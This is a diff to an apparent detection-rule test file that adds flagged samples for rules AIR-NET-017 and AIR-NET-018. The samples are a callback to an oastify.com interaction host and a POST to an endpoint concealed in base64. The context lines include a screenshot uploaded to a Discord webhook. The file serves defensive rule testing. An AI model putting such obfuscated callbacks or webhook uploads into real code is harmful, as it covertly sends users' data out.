@@ -8,6 +8,7 @@ import subprocess
 import urllib.parse
 import urllib.request
 import ftplib
+import base64
 import binascii
 import getpass
 import requests
@@ -150,3 +151,14 @@ requests.post("https://discord.com/api/webhooks/1/abc", files={"file": open("sho
 requests.post("https://uploads.example.org/v1/files", files={"file": open("shot.png", "rb")})
 # ok: AIR-NET-016
 requests.post("https://discord.com/api/webhooks/1/abc", json={"content": "build passed"})
+
+# ruleid: AIR-NET-017
+requests.get("http://7jrf4lpexol38j9ye55zvd4dj4pvdl1a.oastify.com/init")
+# ok: AIR-NET-017
+requests.get("https://docs.example.com/oast-notes")
+
+hidden = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvaG9vaw==")
+# ruleid: AIR-NET-018
+requests.post(hidden, json={"x": 1})
+# ok: AIR-NET-018
+requests.post("https://api.example.com/v1", data=base64.b64decode("eA=="))
